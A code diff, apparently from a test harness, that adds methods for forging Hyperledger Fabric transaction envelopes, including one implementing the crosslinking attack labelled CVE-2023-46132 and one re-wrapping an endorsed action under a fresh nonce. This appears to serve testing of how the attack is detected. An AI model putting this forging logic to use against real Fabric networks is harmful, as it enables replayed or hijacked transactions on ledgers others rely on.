@@ -140,6 +140,25 @@ export class ForgedNetwork {
     return envelope.serializeBinary();
   }
 
+  /**
+   * The crosslinking attack (CVE-2023-46132): `attacker` wraps `tx`'s endorsed action in its own
+   * envelope under a txId derived from its own nonce and creator; the action keeps `tx`'s
+   * signature header, or takes the attacker's.
+   */
+  crosslink(tx: ForgedTransaction, attacker: Identity, actionHeader: 'original' | 'attacker'): Uint8Array {
+    const nonce = randomBytes(24);
+    const txId = createHash('sha256').update(nonce).update(attacker.bytes).digest('hex');
+    const channelHeader = Buffer.from(Buffer.from(tx.channelHeader).toString('latin1').replace(tx.txId, txId), 'latin1');
+    const signatureHeader = signatureHeaderBytes(attacker, nonce);
+    return this.wrap(channelHeader, signatureHeader, actionHeader === 'original' ? tx.signatureHeader : signatureHeader, tx.chaincodeActionPayload, attacker);
+  }
+
+  /** The transaction's endorsed action re-wrapped under a fresh nonce, keeping its channel header (and so its txId). */
+  withFreshNonce(tx: ForgedTransaction, creator: Identity): Uint8Array {
+    const signatureHeader = signatureHeaderBytes(creator, randomBytes(24));
+    return this.wrap(tx.channelHeader, signatureHeader, signatureHeader, tx.chaincodeActionPayload, creator);
+  }
+
   /** Orders envelopes into the next block, signed by `signer` (default the orderer node). */
   appendBlock(envelopes: Uint8Array[], options: { signer?: Identity | null; codes?: number[]; lastConfig?: number } = {}): ForgedBlock {
     const number = this.blocks.length;
